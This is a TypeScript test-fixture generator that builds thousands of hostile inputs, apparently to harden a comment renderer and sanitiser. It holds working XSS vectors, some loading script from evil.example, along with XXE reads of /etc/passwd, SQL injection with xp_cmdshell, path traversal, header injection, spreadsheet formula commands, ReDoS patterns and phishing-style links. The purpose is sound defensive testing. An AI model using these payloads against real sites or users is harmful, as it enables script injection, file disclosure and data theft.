/** Texts that try to run, to break out, to confuse or to exhaust: as comments and as names. The same ones in the same order every time. */
export type HostileText = { family: string; text: string };

type Change = (text: string) => string;

const vectors = [
  '<script>alert(1)</script>',
  '<ScRiPt >alert(1)</ScRiPt >',
  '<script src=//evil.example/x.js></script>',
  '<script src=data:text/javascript,alert(1)></script>',
  '<script>alert(1)',
  '</p></div></article><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</template><script>alert(1)</script>',
  '</noscript><script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '--><script>alert(1)</script>',
  ']]><script>alert(1)</script>',
  '<<script>alert(1)//<</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="alert(1)" />',
  '<img/src/onerror=alert(1)>',
  '<img src=`x`onerror=alert(1)>',
  '<IMG SRC="jav\tascript:alert(1);">',
  '<img srcset=x onerror=alert(1)>',
  '<image src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x">',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math href="javascript:alert(1)">x</math>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><s><template><s><img src=x onerror=alert(1)>@shalesec</s></template></s></template>',
  '<xmp><p title="</xmp><svg/onload=alert(1)>">',
  '<plaintext>',
  '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<base href="//evil.example/">',
  '<link rel=stylesheet href="//evil.example/x.css">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<style>@import "//evil.example/x.css";</style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<p style="position:fixed;inset:0;z-index:99999">covered</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="//evil.example" target=_blank>x</a>',
  '<a onmouseover=alert(1)>x</a>',
  '<b onpointerrawupdate=alert(1) style=display:block>x</b>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src onloadstart=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)>',
  '<button popovertarget=x>a</button><div popover id=x onbeforetoggle=alert(1)>b</div>',
  '<button formaction=javascript:alert(1) type=submit form=search>x</button>',
  '<form action="javascript:alert(1)"><input type=submit></form>',
  '<form id=x></form><button form=x formaction="/sign-out" formmethod=post>x</button>',
  '<isindex action=javascript:alert(1) type=submit>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<table background="javascript:alert(1)"><td>x</table>',
  '<tr><td>x</td></tr></table></div>',
  '<dialog open>x</dialog>',
  '<input name=innerHTML><input name=getElementById>',
  '<a id=defaultView><a id=defaultView name=alert>',
  '<img name=cookie><form name=body>',
  '<x-comment onclick=alert(1)>x</x-comment>',
  '<reader-thread data-live="//evil.example"></reader-thread>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e',
  '\'";!--"<XSS>=&{()}',
  '" autofocus onfocus=alert(1) x="',
  "' onmouseover=alert(1) '",
  '` onerror=alert(1) `',
  '\\"; alert(1); //',
  '";alert(1)//\\";alert(1)//--></SCRIPT>">\'><SCRIPT>alert(1)</SCRIPT>',
  "{{constructor.constructor('alert(1)')()}}",
  '${alert(1)}',
  '<%= 7*7 %>',
  '#{7*7}',
  '*{7*7}',
  '{{7*7}}[[5*5]]',
  '\u0000<script\u0000>alert(1)</script\u0000>',
  '<!--slot:reader-menu--><!--/slot-->',
  '\u0001slot comment-form\u0002',
];

const schemes = [
  'javascript',
  'JaVaScRiPt',
  'vbscript',
  'data',
  'file',
  'blob',
  'about',
  'view-source',
  'filesystem',
  'intent',
  'feed:javascript',
];
const schemeTails = [
  ':alert(1)',
  ':alert`1`',
  '://%0aalert(1)',
  ':text/html,<script>alert(1)</script>',
  ':text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
];
const schemeSpellings: Change[] = [
  (text) => text,
  (text) => ` ${text}`,
  (text) => `\u0001${text}`,
  (text) => text.replace('a', 'a\t'),
  (text) => text.replace('a', 'a\n'),
  (text) => text.replace('a', 'a\u0000'),
  (text) => text.replace(':', '&colon;'),
  (text) => text.replace(':', '&#58;'),
  (text) => text.replace(':', '%3a'),
  (text) => text.replace('a', '&#97;'),
  (text) => text.replace('a', '&#x0000061'),
  (text) => text.replace('a', '\\u0061'),
  (text) => text.replace('a', '\u200ba'),
  (text) => text.replace('s', '\u017f'),
  (text) => `\u202e${text}`,
  (text) => `https:${text}`,
  (text) => `//${text}`,
];
const linkForms: Change[] = [
  (href) => `[a](${href})`,
  (href) => `[a](<${href}>)`,
  (href) => `[a](${href} "title")`,
  (href) => `![a](${href})`,
  (href) => `<${href}>`,
  (href) => `[a][b]\n\n[b]: ${href}`,
  (href) => `[![a](x)](${href})`,
  (href) => `[${href}](https://a.example/)`,
  (href) => `https://a.example/?u=${href}`,
];

const contexts: [string, Change][] = [
  ['plain', (text) => text],
  ['sentence', (text) => `Well, ${text} and so on.`],
  ['quote', (text) => `> ${text}`],
  ['deep quote', (text) => `> > > ${text}`],
  ['list', (text) => `- one\n- ${text}\n  1. ${text}`],
  ['emphasis', (text) => `*${text}*`],
  ['strong', (text) => `**a ${text} b**`],
  ['code', (text) => `\`${text}\``],
  ['fence', (text) => `\`\`\`html\n${text}\n\`\`\``],
  ['fence name', (text) => `\`\`\`${text}\ncode\n\`\`\``],
  ['spoiler', (text) => `||${text}||`],
  ['link words', (text) => `[${text}](https://a.example/)`],
  ['link target', (text) => `[a](${text})`],
  ['link title', (text) => `[a](https://a.example/ "${text}")`],
  ['bare address', (text) => `https://a.example/${text}`],
  ['address query', (text) => `https://a.example/?q=${encodeURI(text.toWellFormed())}#${text}`],
  ['picture', (text) => `![${text}](${text})`],
  ['heading', (text) => `# ${text}\n---`],
  ['table', (text) => `| a | b |\n|---|---|\n| ${text} | c |`],
  ['broken lines', (text) => Array.from(text).join('\n').slice(0, 400)],
];

const entities = (text: string, write: (code: number) => string): string =>
  Array.from(text, (sign) => (/[<>"'`=/:()]/.test(sign) ? write(sign.codePointAt(0) ?? 0) : sign)).join('');

const encodings: [string, Change][] = [
  ['as it is', (text) => text],
  ['decimal entities', (text) => entities(text, (code) => `&#${code};`)],
  ['hex entities', (text) => entities(text, (code) => `&#x${code.toString(16)};`)],
  ['open entities', (text) => entities(text, (code) => `&#0000${code}`)],
  ['named entities', (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;')],
  ['twice escaped', (text) => text.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;')],
  ['percent', (text) => entities(text, (code) => `%${code.toString(16)}`)],
  ['twice percent', (text) => entities(text, (code) => `%25${code.toString(16)}`)],
  ['script escapes', (text) => entities(text, (code) => `\\u00${code.toString(16)}`)],
  [
    'wide',
    (text) =>
      Array.from(text, (sign) =>
        sign > ' ' && sign < '\u007f' ? String.fromCharCode((sign.codePointAt(0) ?? 0) + 0xfee0) : sign,
      ).join(''),
  ],
  ['nulls', (text) => text.replaceAll('<', '<\u0000').replaceAll('=', '\u0000=')],
  ['invisible', (text) => Array.from(text).join('\u200b')],
  ['turned round', (text) => `\u202e${text}\u2066`],
  ['backslashes', (text) => entities(text, (code) => `\\${String.fromCharCode(code)}`)],
  ['line ends', (text) => text.replaceAll(' ', '\r\n').replaceAll('=', '=\u2028')],
  ['accents', (text) => text.replaceAll(/[a-z]/g, '$&\u0338')],
];

const times = (text: string, count: number): string => text.repeat(count);

const nesting = (): string[] =>
  [
    '> ',
    '- ',
    '1. ',
    '* ',
    '*',
    '_',
    '**',
    '***',
    '~~',
    '`',
    '``',
    '[',
    '](',
    '![',
    '(',
    ')',
    '||',
    '<',
    '</',
    '<!--',
    '&',
    '&#',
    '\\',
    '#',
    '\n',
    '\t',
    ' ',
    '\n> ',
    '\n\n- ',
    '|',
    '~',
    '^',
    '<b>',
    '<div>',
    '[a](',
    '[](',
    '[[',
    '*a ',
    '**a *b ',
    '_a __b ',
    '`a ``b ',
    '> - ',
    '- > ',
    '||a ',
    '[a][',
    'https://',
    'www.',
    '://',
    '@',
    'a@',
    ':',
    '"',
    "'",
  ]
    .flatMap((piece) => [3, 60, 400, 2_500, 9_000].map((count) => times(piece, Math.ceil(count / piece.length))))
    .flatMap((text) => [text, `a${text}b`, `${text}\n\nEnd.`]);

const heaps = (): string[] =>
  [
    'e\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308',
    `a${times('\u0300', 400)}`,
    `${times('\u0489', 300)}x`,
    times('\u0f73\u0f75', 200),
    times('\ufdfa', 300),
    '\ufdfd',
    '𒐫'.repeat(120),
    '꧅'.repeat(120),
    times('\u200b', 900),
    times('\u2800', 300),
    times('\u3164', 300),
    times('\u00a0', 300),
    times('\u202e\u202d', 300),
    `\u202e${'evil'.repeat(30)}\u2069\u2069\u2069`,
    times('\u2066', 900),
    '\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069'.repeat(80),
    '👩‍👩‍👧‍👦'.repeat(150),
    times('👩\u200d', 600),
    times('\u200d', 900),
    times('🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}', 90),
    times('\u{e0041}', 500),
    times('🇦', 301),
    times('👍🏿', 300),
    times('\ufe0f', 900),
    times('\u{e0100}', 400),
    '\ud800',
    '\udc00',
    'a\ud83db',
    times('\udfff\ud800', 200),
    '\u0000',
    times('\u0000', 500),
    'a\u0000b\u0001c\u0008d\u000be\u000cf\u007fg\u0080h\u009fi',
    '\u001b[2J\u001b[31mred\u0007',
    'a\rb\nc\r\nd\u0085e\u2028f\u2029g',
    '\ufeff\ufffe\uffff\ufff9\ufffa\ufffb',
    '\ue000\uf8ff\u{f0000}\u{10fffd}',
    'İıſKÅ ﬀ ﬃ ŉ ǰ ΐ ß ẞ',
    times('İ', 900),
    times('ß', 900),
    times('ﷺ', 400),
    times('가', 2_000),
    '\u1112\u1161\u11ab'.repeat(600),
    times('ก็', 400),
    times('क्', 400),
    'مرحبا <b> שלום </b> 1+1=2',
    '\u061c\u200e\u200f'.repeat(200),
    '１２３４５６７８９０'.repeat(50),
    '𝓈𝒸𝓇𝒾𝓅𝓉'.repeat(60),
    '＜ｓｃｒｉｐｔ＞ａｌｅｒｔ（１）＜／ｓｃｒｉｐｔ＞',
    '﹤script﹥alert(1)﹤/script﹥',
    '‹script›alert(1)‹/script›',
    '\u00bcscript\u00bealert(1)\u00bc/script\u00be',
    '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  ].flatMap((text) => [
    text,
    `before ${text} after`,
    `**${text}**`,
    `> ${text}`,
    `[${text}](https://a.example/${encodeURI(text.toWellFormed())})`,
  ]);

const bombs = (): string[] =>
  [
    times('a', 9_000),
    times('a.', 3_000),
    times('a ', 3_000),
    times('1!', 3_000),
    times('f.u-', 1_500),
    times('@$', 2_000),
    `${times('a', 5_000)}!`,
    `${times('aa ', 2_000)}b`,
    `${times(' ', 6_000)}x`,
    `x${times('\n', 5_000)}x`,
    `https://a.example/${times('a', 5_000)}`,
    `https://a.example/${times('(', 2_000)}`,
    `https://a.example/${times('a)', 1_500)}`,
    `https://${times('a.', 1_000)}example/`,
    `https://${times('a', 3_000)}.example/`,
    `https://a.example/?${times('a=b&', 800)}`,
    `https://a.example/${times('.', 3_000)}`,
    `https://a.example/${times('%', 3_000)}`,
    times('https://a.example/ ', 250),
    times('https://', 700),
    times('http://a', 700),
    times('[a](https://a.example/) ', 200),
    times('[a](https://a.example/', 200),
    `[${times('a', 3_000)}](https://a.example/)`,
    `[a](https://a.example/${times('b', 3_000)})`,
    `[a](${times(' ', 3_000)})`,
    `[a](<${times('a', 3_000)}`,
    times('xn--', 900),
    'https://xn--80ak6aa92e.com/ https://аррӏе.com/ https://xn--.example/ https://xn--zzzzzz99999.example/',
    'https://user:pass@evil.example/ https://bank.example@evil.example/ https://bank.example%40evil.example/',
    'https://[::1]/ https://0x7f.1/ https://2130706433/ http://127.0.0.1:80/ https://a.example:99999/',
    'mailto:a@b.example?subject=x&bcc=all@evil.example mailto:javascript:alert(1)',
    times('!', 4_000),
    times('?!', 2_000),
    times('"', 4_000),
    times('😂', 2_000),
    times('Z', 4_000),
    times('一', 4_000),
    times('ab', 4_500),
    times('a\u0301', 2_500),
    times('x\u200b', 2_500),
  ].flatMap((text) => [text, `> ${text}`, `- ${text}`, `*${text}`, `\`${text}`, `${text}*`]);

const sneaky = (): string[] =>
  [
    "'; drop table comment; --",
    "' or '1'='1",
    '1; select pg_sleep(5)',
    "\\'; exec xp_cmdshell('dir'); --",
    '../../../../etc/passwd',
    '..%2f..%2fetc%2fpasswd',
    'C:\\windows\\win.ini',
    '\r\nSet-Cookie: session=evil\r\n\r\n<script>alert(1)</script>',
    '%0d%0aSet-Cookie:%20a=b',
    '__proto__',
    'constructor',
    'prototype.toString',
    '{"__proto__":{"isAdmin":true}}',
    '[object Object]',
    'undefined',
    'null',
    'NaN',
    'true',
    '-0',
    '1e309',
    '9'.repeat(400),
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("http://evil.example","x")',
    '@SUM(1+1)*cmd|',
    '%s%s%s%n%n%n%x%x',
    '%d'.repeat(60),
    "$&$1$`$'$$",
    '\\1\\2\\0',
    '(a+)+$',
    '^(([a-z])+.)+[A-Z]([a-z])+$',
    '(?<a>.)(?=(?=(?=x)))',
    '[[:alpha:]]{1,99999}',
    '.*.*.*.*.*.*=.*',
    '</script><!--<script>',
    '"},{"@type":"Comment","text":"<script>alert(1)</script>',
    ']]>\u2028alert(1)//',
    'data: evil\n\nevent: comment\ndata: {"x":1}\n\n',
    'id: 1\nretry: 0\n\n',
    'Content-Type: text/html\n\n<script>alert(1)</script>',
    'http://evil.example/\u202egpj.exe',
    'see [bank.example](https://thief.example/) and [https://bank.example](https://thief.example/)',
    '[a]: https://a.example\n[a]: javascript:alert(1)\n[a]',
    '[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
    'Term\n: <script>alert(1)</script>',
    '{% include "/etc/passwd" %}{{ config }}',
    '#set($x=7*7)$x',
    '<c:out value="${7*7}"/>',
    'a'.concat('\n'.repeat(199), 'b'),
  ].flatMap((text) => [text, `*${text}*`, `> ${text}`, `\`\`\`\n${text}\n\`\`\``, `||${text}||`]);

const linkTricks = (): string[] =>
  schemes.flatMap((scheme) =>
    schemeTails.flatMap((tail, t) =>
      schemeSpellings.flatMap((spell, s) => {
        const href = spell(`${scheme}${tail}`);
        // Every spelling meets every form somewhere, not everywhere.
        return [linkForms[(t + s) % linkForms.length], linkForms[(t * 2 + s + 4) % linkForms.length]].map(
          (form) => form?.(href) ?? href,
        );
      }),
    ),
  );

const mixtures = (): HostileText[] =>
  vectors.flatMap((vector) =>
    contexts.flatMap(([context, put]) =>
      encodings.map(([encoding, write]) => ({ family: `${context}, ${encoding}`, text: put(write(vector)) })),
    ),
  );

const special = (): HostileText[] =>
  Object.entries({ nesting: nesting(), heaps: heaps(), bombs: bombs(), sneaky: sneaky(), links: linkTricks() }).flatMap(
    ([family, texts]) => texts.map((text) => ({ family, text })),
  );

const different = (texts: readonly HostileText[]): HostileText[] => [
  ...new Map(texts.map((one) => [one.text, one])).values(),
];

const spread = (texts: readonly HostileText[], count: number): HostileText[] =>
  Array.from({ length: count }, (_, i) => texts[Math.floor((i * texts.length) / count)] as HostileText);

/** So many different texts: of those that are special as many as there are, up to two in five, the rest spread over all mixtures. */
export const hostileTexts = (count: number): HostileText[] => {
  const own = different(special());
  const mixed = different(mixtures());
  const ownCount = Math.min(own.length, Math.floor(count * 0.4));
  const mixedCount = count - ownCount;
  if (mixedCount > mixed.length) throw new Error(`there are only ${own.length + mixed.length} hostile texts`);
  return [...spread(own, ownCount), ...spread(mixed, mixedCount)];
};

const percent = (byte: number): string => `%${byte.toString(16).padStart(2, '0')}`;

/** A text as a form sends it, also where it is no Unicode: torn surrogates go as the three bytes they would have. */
export const formEncoded = (text: string): string => {
  if (text.isWellFormed()) return encodeURIComponent(text);
  return Array.from(text, (sign) => {
    const code = sign.codePointAt(0) ?? 0;
    if (code < 0xd800 || code > 0xdfff) return encodeURIComponent(sign);
    return [0xe0 | (code >> 12), 0x80 | ((code >> 6) & 0x3f), 0x80 | (code & 0x3f)].map(percent).join('');
  }).join('');
};
